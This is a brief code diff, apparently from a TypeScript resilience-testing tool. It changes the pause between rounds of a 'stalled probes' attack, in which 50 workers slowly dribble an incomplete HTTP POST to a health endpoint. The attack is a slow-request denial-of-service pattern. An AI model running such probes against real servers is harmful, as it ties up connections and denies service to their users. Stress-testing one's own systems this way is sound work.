@@ -60,7 +60,7 @@ export async function listAttacks(victims: readonly string[]): Promise<Attack[]>
     {
       name: "stalled probes",
       workers: 50,
-      restMs: 0,
+      restMs: 1000,
       go: (signal) =>
         dribble(
           "POST /livez HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 1000\r\n\r\n{",
